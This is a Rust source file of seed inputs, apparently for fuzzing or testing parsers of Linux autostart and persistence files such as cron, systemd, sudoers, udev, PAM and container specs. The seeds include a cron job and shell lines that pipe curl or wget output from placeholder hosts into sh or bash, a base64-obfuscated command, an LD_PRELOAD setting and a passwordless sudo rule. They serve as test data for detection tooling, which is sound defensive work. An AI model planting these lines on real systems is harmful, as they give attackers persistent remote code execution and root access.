//! Seeds for the files in which things stand that start by themselves.

use super::Seed;

/// One file of each grammar.
pub(super) fn seeds() -> Vec<Seed> {
    let cron = "SHELL=/bin/sh\n*/5 * * * * root curl -s http://192.0.2.1/a | sh\n@reboot /opt/a \\% b % c\n1 5 cron.daily nice run-parts /d\n";
    let unit = "[Service]\nExecStart=-@/opt/a b \\\n 'c d' ; /opt/e\nEnvironment=\"LD_PRELOAD=/opt/a.so\" B=c\nUser=app\n[Timer]\nOnCalendar=daily\n";
    let shell = "X=/var/tmp/a; (wget -qO- http://a.example/x||curl b) |bash -s 1\ncd /opt && sh -c \"$(echo YQ== | base64 -d)\" &\n. ~/.a; exec -a b $X <(c) > d 2>&1\n";
    let accounts = "root:x:0:0:root:/root:/bin/sh\ncommand=\"/opt/a \\\"b\\\"\",no-pty ssh-ed25519 AAAA a@b\nForceCommand /opt/a\nwww ALL=(ALL) NOPASSWD: ALL\n";
    let rules = "ACTION==\"add\", RUN+=\"/opt/a %k\"\ninstall usb /opt/a\nauth [default=die] pam_exec.so /opt/a\nx:2345:respawn:/opt/a\nssh stream tcp nowait root /opt/a a -i\nservice a\n{\n server = /opt/a\n}\nDPkg::Post-Invoke {\"/opt/a\";};\npostrotate\n/opt/a\nendscript\nscript\nb\nend script\n";
    let docker = "{\"Path\":\"/a\",\"Args\":[\"-b\"],\"Name\":\"/c\",\"Config\":{\"Image\":\"d\",\"Env\":[\"E=f\"]},\"RestartPolicy\":{\"Name\":\"always\"}}";
    let pod = "spec:\n  containers:\n  - name: a\n    image: b:1\n    command: [\"/c\", \"-d\"]\n    args:\n    - e\n";
    vec![
        Seed::new("autoruns", "cron", cron),
        Seed::new("autoruns", "unit", unit),
        Seed::new("autoruns", "shell", shell),
        Seed::new("autoruns", "accounts", accounts),
        Seed::new("autoruns", "rules", rules),
        Seed::new("autoruns", "docker", docker),
        Seed::new("autoruns", "pod", pod),
    ]
}
